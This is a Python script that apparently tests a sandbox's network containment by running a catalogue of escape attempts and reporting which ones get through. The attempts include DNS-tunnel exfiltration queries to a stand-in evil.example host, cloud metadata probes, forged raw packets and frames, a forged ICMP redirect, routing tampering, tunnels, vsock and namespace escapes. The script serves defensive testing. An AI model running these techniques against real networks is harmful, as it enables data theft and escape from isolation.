"""A robot that has a workload's network to itself, and every privilege that it can get there, tries to get out.

usage: robot.py
Says on stdout, as JSON, what came of each attempt: "answered" by somebody who is not the broker saying no, "closed" otherwise. The same list on
every rung: a locked network namespace as root, `cloakroom run` as root, `cloakroom run` as an ordinary user. Standard library only.
"""
import concurrent.futures
import ctypes
import json
import os
import socket
import struct
import subprocess
import sys

OUTSIDE, OUTSIDE6, METADATA = "203.0.113.10", "2001:db8::10", "169.254.169.254"
GATEWAY, GATEWAY6, FAR, SELF = "10.77.0.1", "fd77::1", "10.78.0.1", "10.77.0.2"
WIRE = "out0"
PATIENCE = 0.6


class Answered(Exception):
    pass


def connect(address, port, source=None, family=None):
    with socket.socket(family or (socket.AF_INET6 if ":" in address else socket.AF_INET)) as sock:
        sock.settimeout(PATIENCE)
        if source:
            sock.bind((source, 0))
        sock.connect((address, port))
        sock.sendall(b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")
        said = b""
        try:
            while len(said) < 8192:
                more = sock.recv(8192)
                if not more:
                    break
                said += more
        except TimeoutError:
            pass
        # The broker's own no; and its listener for TLS, which says nothing to what is none.
        if said and b"application/problem+json" not in said:
            raise Answered(said[:60])


def datagram(address, port, payload=b"x", source=None):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE)
        if source:
            sock.bind((source, 0))
        sock.sendto(payload, (address, port))
        return sock.recv(4096)


def echo(address, port, source=None):
    raise Answered(datagram(address, port, b"x", source))


def question(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x11\x11\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)


def name(server, asked, kind=1):
    said = datagram(server, 53, question(asked, kind))
    if said[3] & 15 == 0 and said[6:8] != b"\0\0":
        raise Answered(said)


def name_over_tcp(server, asked):
    with socket.create_connection((server, 53), PATIENCE) as sock:
        sock.settimeout(PATIENCE)
        sent = question(asked)
        sock.sendall(struct.pack("!H", len(sent)) + sent)
        said = sock.recv(4096)
        if len(said) > 9 and said[5] & 15 == 0 and said[8:10] != b"\0\0":
            raise Answered(said)


def looked_up(asked):
    raise Answered(socket.getaddrinfo(asked, 443))


def ping(address):
    done = subprocess.run(["ping", "-c", "1", "-W", "1", address], capture_output=True)
    if done.returncode == 0:
        raise Answered("pong")


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source, target, port=443, protocol=17, flags=0):
    payload = struct.pack("!HHHH", 4321, port, 12, 0) + b"data" if protocol == 17 else b"\0" * 12
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 7, flags, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def raw(source, protocol=17, flags=0):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.sendto(packet(source, OUTSIDE, protocol=protocol, flags=flags), (OUTSIDE, 0))


def frame(tag=b""):
    """Past the routes of this side: straight to the hardware address of the other end of the wire."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((WIRE, 0))
        own = sock.getsockname()[4]
        other = next(line.split()[3] for line in open("/proc/net/arp") if line.startswith(GATEWAY + " "))
        ether = bytes.fromhex(other.replace(":", "")) + own + tag + b"\x08\x00"
        for source in (SELF, "10.78.0.9", "198.51.100.9"):
            sock.send(ether + packet(source, OUTSIDE))


def ip(*words):
    subprocess.run(["ip", *words], check=True, capture_output=True)


def with_route(*words):
    ip("route", "replace", *words)
    try:
        connect(OUTSIDE, 8080)
    finally:
        ip("route", "replace", "default", "via", GATEWAY, "dev", WIRE)


def with_neighbour():
    """The outside said to be on this wire, at the other end's hardware address."""
    other = next(line.split()[3] for line in open("/proc/net/arp") if line.startswith(GATEWAY + " "))
    ip("neigh", "replace", OUTSIDE, "lladdr", other, "dev", WIRE)
    ip("route", "replace", OUTSIDE + "/32", "dev", WIRE, "scope", "link")
    try:
        connect(OUTSIDE, 8080)
    finally:
        ip("route", "del", OUTSIDE + "/32")


def with_address(address, attempt):
    ip("addr", "add", address + "/24", "dev", WIRE)
    try:
        attempt(address)
    finally:
        ip("addr", "del", address + "/24", "dev", WIRE)


def with_interface(*words):
    ip("link", "add", "extra0", *words)
    try:
        ip("addr", "add", "10.99.0.2/24", "dev", "extra0")
        ip("link", "set", "extra0", "up")
        ip("route", "replace", "default", "dev", "extra0")
        connect(OUTSIDE, 8080)
    finally:
        ip("link", "del", "extra0")
        ip("route", "replace", "default", "via", GATEWAY, "dev", WIRE)


def redirected():
    """Tells the other end that the way to everywhere is through here."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(SELF)) + packet(GATEWAY, OUTSIDE)[:28]
        sock.sendto(body[:2] + struct.pack("!H", checksum(body)) + body[4:], (GATEWAY, 0))


def vsock(cid):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE)
        sock.connect((cid, 1024))
        raise Answered("the hypervisor's host")


def new_namespace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x40000000) == 0:  # user and network: mighty there, and alone
        connect(OUTSIDE, 8080)


def admin_socket(path):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(PATIENCE)
        sock.connect(path)
        raise Answered("the admin socket")


def scan(addresses, ports):
    """Other ports of the broker's machine: whatever accepts or refuses a connection is reached."""

    def one(target):
        with socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET) as sock:
            sock.settimeout(PATIENCE)
            try:
                sock.connect(target)
                return target
            except ConnectionRefusedError:
                return target
            except OSError:
                return None

    targets = [(address, port) for address in addresses for port in ports]
    with concurrent.futures.ThreadPoolExecutor(64) as pool:
        reached = [target for target in pool.map(one, targets) if target]
    if reached:
        raise Answered(reached)


CLOSED_PORTS = [1, 21, 22, 25, 111, 3306, 5432, 6379, 8080, 8443, 8480, 8481, 9000, 40000]

# Name, attempt, and whether the internet would answer it if nothing were in the way.
ATTEMPTS = [
    ("tcp 80", lambda: connect(OUTSIDE, 80), True),
    ("tcp 443", lambda: connect(OUTSIDE, 443), False),
    ("tcp 8080", lambda: connect(OUTSIDE, 8080), True),
    ("tcp 53", lambda: name_over_tcp(OUTSIDE, "data.evil.example"), False),
    ("metadata 80", lambda: connect(METADATA, 80), True),
    ("metadata 8080", lambda: connect(METADATA, 8080), True),
    ("tcp 8080 over ipv6", lambda: connect(OUTSIDE6, 8080), True),
    ("tcp 80 over ipv6", lambda: connect(OUTSIDE6, 80), True),
    ("tcp 8080 over ipv4 in ipv6", lambda: connect("::ffff:" + OUTSIDE, 8080, family=socket.AF_INET6), True),
    ("udp 443", lambda: echo(OUTSIDE, 443), True),
    ("udp 123", lambda: echo(OUTSIDE, 123), True),
    ("udp 53 that is no question", lambda: datagram(OUTSIDE, 53, b"no question at all"), False),
    ("udp 443 over ipv6", lambda: echo(OUTSIDE6, 443), True),
    ("a name, asked outside", lambda: name(OUTSIDE, "c2VjcmV0.evil.example"), True),
    ("a name, asked outside for text", lambda: name(OUTSIDE, "c2VjcmV0.evil.example", 16), False),
    ("a name, asked of the broker", lambda: name(GATEWAY, "c2VjcmV0.evil.example"), False),
    ("a name, asked of the broker for text", lambda: name(GATEWAY, "c2VjcmV0.evil.example", 16), False),
    ("a name, as programs ask", lambda: looked_up("evil.example"), False),
    ("ping", lambda: ping(OUTSIDE), True),
    ("ping over ipv6", lambda: ping(OUTSIDE6), True),
    ("raw, own source", lambda: raw(SELF), False),
    ("raw, forged source", lambda: raw("198.51.100.9"), False),
    ("raw, the broker's source", lambda: raw(FAR), False),
    ("raw, a fragment", lambda: raw(SELF, flags=0x2000), False),
    ("raw, sctp", lambda: raw(SELF, protocol=132), False),
    ("raw, ip in ip", lambda: raw(SELF, protocol=4), False),
    ("frames", frame, False),
    ("frames with a tag", lambda: frame(b"\x81\x00\x00\x05"), False),
    ("broadcast", lambda: datagram("10.77.0.255", 123), False),
    ("a redirect to the other end", redirected, False),
    ("other ports of the broker", lambda: scan([GATEWAY, FAR, GATEWAY6], CLOSED_PORTS), True),
    ("another route", lambda: with_route("default", "via", "10.78.0.2", "dev", WIRE, "onlink"), False),
    ("another neighbour", with_neighbour, True),
    ("another address of the network", lambda: with_address("10.77.0.9", lambda own: connect(OUTSIDE, 8080, own)), True),
    ("an address of the far network", lambda: with_address("10.78.0.9", lambda own: connect(OUTSIDE, 8080, own)), False),
    ("the broker's address", lambda: with_address(GATEWAY, lambda own: echo(OUTSIDE, 443, own)), False),
    ("a tunnel", lambda: with_interface("type", "ipip", "local", SELF, "remote", OUTSIDE), False),
    ("a tag", lambda: with_interface("link", WIRE, "type", "vlan", "id", "5"), False),
    ("another hardware address", lambda: with_interface("link", WIRE, "type", "macvlan", "mode", "bridge"), False),
    ("vsock to the host", lambda: vsock(2), False),
    ("vsock to the hypervisor", lambda: vsock(0), False),
    ("a namespace of its own", new_namespace, False),
]


def tried(attempt):
    try:
        attempt()
    except Answered as answer:
        return "answered", str(answer)[:120]
    except Exception as error:
        return "closed", "%s: %s" % (type(error).__name__, str(error)[:80])
    return "closed", "no answer"


def main():
    done = []
    attempts = list(ATTEMPTS)
    if os.environ.get("ADMIN_SOCKET"):
        attempts.append(("the admin socket", lambda: admin_socket(os.environ["ADMIN_SOCKET"]), False))
    # What changes the network is tried alone, and last.
    alone = next(at for at, (what, *_) in enumerate(attempts) if what == "another route")
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        came = list(pool.map(tried, [attempt for _, attempt, _ in attempts[:alone]]))
    came += [tried(attempt) for _, attempt, _ in attempts[alone:]]
    for (what, _, answers), (word, detail) in zip(attempts, came):
        done.append({"attempt": what, "came": word, "detail": detail, "answers": answers})
    json.dump(done, sys.stdout)


main()
